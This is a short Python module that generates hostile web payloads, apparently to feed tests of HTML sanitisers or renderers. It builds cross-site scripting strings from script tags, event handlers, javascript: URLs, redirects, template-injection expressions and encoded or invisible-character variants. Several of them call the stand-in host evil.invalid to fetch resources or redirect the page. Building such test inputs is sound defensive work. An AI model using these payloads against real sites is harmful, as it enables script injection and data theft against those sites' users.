"""Content that attacks the page that shows it."""

from __future__ import annotations

from itertools import cycle, islice, product

SCRIPTS = ("window.hit=1", "alert(1)", "fetch('//evil.invalid/x')", "location='//evil.invalid'")
MARKUP = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    '<img src=x onerror="{0}">',
    "<img src='//evil.invalid/i.png'>",
    '<svg onload="{0}"></svg>',
    "<svg><script>{0}</script></svg>",
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}">x</a>',
    "<form action='//evil.invalid'><input autofocus onfocus=\"{0}\"></form>",
    "<link rel=stylesheet href='//evil.invalid/s.css'>",
    "<style>*{{background:url(//evil.invalid/b)}}</style>",
    "<base href='//evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<object data='//evil.invalid/o'></object>",
    "<template><script>{0}</script></template>",
    '<math><mtext><img src=x onerror="{0}"></mtext></math>',
    "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    '" autofocus onfocus="{0}" x="',
    "' onmouseover='{0}' x='",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</style><script>{0}</script>",
    "</bdi></li></ul><script>{0}</script>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{ self.__init__.__globals__ }}}}{0}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{0}{{% endfor %}}",
    "${{{0}}}",
    "expression({0})",
    "\u202e{0}\u2066<b>",
    "\x1b[31m{0}\x1b]8;;//evil.invalid\x07x",
    "\u0085\u2028{0}\u2029\ufeff",
    "\u00ad\u200b{0}\u200e",
    "&lt;script&gt;{0}&#x3c;/script>",
    "%3Cscript%3E{0}%3C/script%3E",
    "[x](javascript:{0})<b>![i](//evil.invalid/m.png)",
    "../../../{0}?a=b&c=d#e",
    "e\u0301\U0001f468\u200d\U0001f469\u200d\U0001f467 {0}",
)


def payloads(number: int) -> list[str]:
    """Return so many, each a different one."""
    made = (markup.format(script) for script, markup in product(SCRIPTS, MARKUP))
    return [
        text if at < len(SCRIPTS) * len(MARKUP) else f"{at}{text}"
        for at, text in islice(enumerate(cycle(list(made))), number)
    ]
